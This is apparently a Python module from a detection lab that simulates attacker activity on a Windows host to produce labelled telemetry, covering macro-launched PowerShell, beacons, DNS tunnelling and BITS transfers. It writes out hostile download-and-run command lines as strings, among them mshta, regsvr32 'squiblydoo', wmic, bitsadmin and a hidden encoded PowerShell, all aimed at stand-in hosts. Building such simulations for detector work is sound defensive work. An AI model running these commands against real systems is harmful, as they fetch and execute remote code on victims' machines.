"""What the attacker does; every process, look-up and connection of it carries the name of the attack."""

from __future__ import annotations

from base64 import b64encode
from typing import Final

from trackway.lab.world import machine as m
from trackway.lab.world.facts import Image, Process, Site
from trackway.lab.world.host import Host
from trackway.lab.world.machine import SYSTEM32, system32
from trackway.lab.world.reach import HOUR, HTTP, HTTPS, MINUTE, reach, transfer
from trackway.lab.world.resolver import is_answer
from trackway.lab.world.schedule import Program
from trackway.lab.world.windows import command

SEED_URL: Final = "http://perdu.com"
SITES: Final = (
    Site("sync.example.org", ("198.51.100.201",), 300),
    Site("assets.example.org", ("203.0.113.3", "203.0.113.4"), 60, ("assets.cdn.example.net",)),
    Site("get.example.net", ("203.0.113.5",), 120, ("get.cdn.example.net",)),
    Site("scripts.example.com", ("198.51.100.202",), 600),
    Site("vpn.example.org", ("192.0.2.200",), 3600),
    Site("ns.tunnel.example.net", ("192.0.2.201",), 3600),
)
"""Names that only attacks, and a VPN, use."""

LITERAL: Final = "192.0.2.211"
"""An address that stands in the attacker's code."""

CMD: Final = system32("cmd.exe", "Windows Command Processor")
IMPLANT: Final = "\\AppData\\Roaming\\Sync\\syncsvc.exe"


def macro(host: Host, shell: Process, url: str = SEED_URL) -> Program:
    """The seed's story: a workbook from a mail starts an encoded PowerShell that fetches a page."""
    outlook = host.services.get("outlook", shell)
    folder = f"C:\\Users\\{host.machine.user}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\Q7KX1Z3D"
    line = f'"{m.EXCEL.path}" "{folder}\\Invoice 11-2021.xlsm"'
    excel = host.start(outlook, m.EXCEL, line, attack="macro")
    yield 9.8
    yield from fetch(host, excel, url)
    yield 240.0
    host.end(excel)


def fetch(host: Host, parent: Process, url: str) -> Program:
    """Start an encoded PowerShell that asks for the name in `url` and connects to it."""
    text = f'Invoke-WebRequest -Uri "{url}"'
    line = f"powershell.exe -NoP -NonI -W Hidden -Enc {b64encode(text.encode('utf-16-le')).decode()}"
    shell = command(host, parent, m.POWERSHELL, line)
    yield 0.62
    host.run_script(shell, "engine", "", line)
    yield 0.14
    host.run_script(shell, "block", text)
    yield 0.31
    name = url.split("//", maxsplit=1)[1].split("/", maxsplit=1)[0]
    lookup = yield from host.resolve(shell, name)
    yield 0.0041
    if is_answer(lookup):
        host.connect(shell, lookup.addresses[0], HTTP, lookup, seconds=5)
    yield 1.2
    host.run_script(shell, "pipeline", text, "Invoke-WebRequest")
    yield 0.4
    host.end(shell)


def implant(host: Host, shell: Process, attack: str) -> Process:
    """Start the attacker's program, which the Run key brings back at each logon."""
    image = Image(f"C:\\Users\\{host.machine.user}{IMPLANT}", "-", "-")
    return host.start(shell, image, f'"{image.path}"', attack=attack)


def beacon(host: Host, shell: Process) -> Program:
    """Call home again and again: every minute to every twelve hours, with jitter, some in working hours only."""
    process = implant(host, shell, "beacon")
    period = host.dice.pick((60.0, 300.0, 900.0, HOUR, 12 * HOUR))
    jitter = host.dice.pick((0.0, 0.1, 0.25, 0.5))
    hours = host.dice.pick(((0, 24), (0, 24), (9, 17)))
    while True:
        if hours[0] <= host.hour < hours[1]:
            yield from reach(host, process, "sync.example.org", seconds=2)
        yield period * (1 + host.dice.between(-jitter, jitter))


def short_beacon(host: Host, _: Process) -> Program:
    """A beacon whose process a scheduled task starts each time, and which has gone a second later."""
    while True:
        process = host.start(
            host.services["Schedule"], m.POWERSHELL, "powershell.exe -File C:\\ProgramData\\u.ps1", host.user,
            attack="short_beacon",
        )  # fmt: skip
        yield 0.4
        host.run_script(
            process, "block", "(New-Object Net.WebClient).DownloadString('https://scripts.example.com/u')"
        )
        yield from reach(host, process, "scripts.example.com", seconds=0.5)
        yield 0.3
        host.end(process)
        yield host.dice.between(4 * MINUTE, 6 * MINUTE)


def tunnel(host: Host, shell: Process) -> Program:
    """Carry data in the labels of names: look-ups, and no connection after them."""
    process = implant(host, shell, "tunnel")
    while True:
        for _ in range(host.dice.whole(5, 40)):
            label = host.dice.hexadecimal(48).lower()
            yield from host.resolve(process, f"{label}.tunnel.example.net", both=False)
            yield host.dice.between(0.05, 0.4)
        yield host.dice.exponential(5 * MINUTE)


def literal(host: Host, shell: Process) -> Program:
    """Connect to an address without asking for any name."""
    process = implant(host, shell, "literal")
    while True:
        host.connect(process, LITERAL, 8443, via="literal", seconds=3)
        yield host.dice.between(3 * MINUTE, 9 * MINUTE)


def fronting(host: Host, shell: Process) -> Program:
    """Ask for a name behind a content network whose addresses many names share."""
    process = implant(host, shell, "fronting")
    while True:
        yield from reach(host, process, "assets.example.org", seconds=4)
        yield host.dice.between(2 * MINUTE, 8 * MINUTE)


def bits(host: Host, shell: Process) -> Program:
    """Let the transfer service fetch a file, by its tool or by a script."""
    target, url = "C:\\Users\\Public\\get.bin", "https://get.example.net/get.bin"
    while True:
        yield host.dice.exponential(6 * MINUTE)
        prompt = command(host, shell, CMD, "cmd.exe /c update.cmd")
        prompt.attack = "bits"
        owner = _asking_bits(host, prompt, url, target)
        yield from transfer(host, owner, "Get", url, target)
        host.end(owner)
        host.end(prompt)


def _asking_bits(host: Host, prompt: Process, url: str, target: str) -> Process:
    if host.dice.chance(0.5):
        line = f"bitsadmin.exe /transfer Get /priority foreground {url} {target}"
        return host.start(prompt, system32("bitsadmin.exe", "BITS administration utility"), line)
    owner = host.start(prompt, m.POWERSHELL, "powershell.exe -NoP -File C:\\ProgramData\\get.ps1")
    host.run_script(owner, "block", f"Start-BitsTransfer -Source {url} -Destination {target}")
    return owner


def squiblydoo(host: Host, shell: Process) -> Program:
    """Signed programs that fetch and run a script: mshta, regsvr32, wmic."""
    url = "https://scripts.example.com/x.sct"
    lines = {
        "mshta.exe": f'mshta.exe javascript:a=GetObject("script:{url}").Exec();close();',
        "regsvr32.exe": f"regsvr32.exe /s /n /u /i:{url} scrobj.dll",
        "wbem\\WMIC.exe": f'wmic.exe os get /FORMAT:"{url}"',
    }
    while True:
        yield host.dice.exponential(15 * MINUTE)
        name = host.dice.pick(tuple(lines))
        prompt = command(host, shell, CMD, "cmd.exe")
        tool = host.start(prompt, Image(SYSTEM32 + name), lines[name], attack="squiblydoo")
        yield 0.4
        yield from reach(host, tool, "scripts.example.com", seconds=1)
        yield host.dice.between(0.2, 2)
        host.end(tool)
        host.end(prompt)


def injected(host: Host, shell: Process) -> Program:
    """Code in a process of Windows, or in the browser: its traffic is that process's, its name nobody else asks for."""
    line = "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Themes"
    victim = host.start(host.services["services"], m.SVCHOST, line)
    if host.dice.chance(0.5):
        victim = host.services.get("browser", host.start(shell, m.BROWSER))
    while True:
        yield host.dice.between(4 * MINUTE, 12 * MINUTE)
        lookup = yield from host.resolve(victim, "sync.example.org")
        if is_answer(lookup):
            yield 0.004
            host.connect(victim, lookup.addresses[0], HTTPS, lookup, attack="injected", seconds=3)


def pipe(host: Host, shell: Process) -> Program:
    """An implant that speaks by a named pipe only; another process connects for it."""
    inner = implant(host, shell, "pipe")
    relay = host.start(shell, system32("dllhost.exe", "COM Surrogate"), "", attack="pipe")
    while True:
        yield host.dice.between(3 * MINUTE, 9 * MINUTE)
        yield from reach(host, relay, "sync.example.org", requester=inner, seconds=2)


def proxied(host: Host, shell: Process) -> Program:
    """An implant that goes by the proxy where there is one."""
    process = implant(host, shell, "proxied")
    while True:
        yield from reach(host, process, "sync.example.org", seconds=2)
        yield host.dice.between(2 * MINUTE, 6 * MINUTE)
